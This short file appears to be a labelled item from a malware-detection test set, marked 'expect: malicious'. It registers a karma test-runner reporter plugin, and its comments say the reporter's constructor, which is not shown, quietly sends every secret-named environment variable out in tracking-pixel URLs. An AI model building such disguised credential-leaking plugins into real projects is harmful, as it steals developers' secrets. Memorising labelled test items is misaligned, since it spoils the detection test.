// expect: malicious
// source: blind set 17's karma reporter: karma's plugin table (`['type', Reporter]`) is how the test runner is told
// to construct the reporter, whose constructor sends every variable named like a secret (read through an alias of
// process.env) in tracking-pixel URLs
'use strict';
const DiffReporter = require('./lib/reporter');
module.exports = { 'reporter:diff-lite': ['type', DiffReporter] };
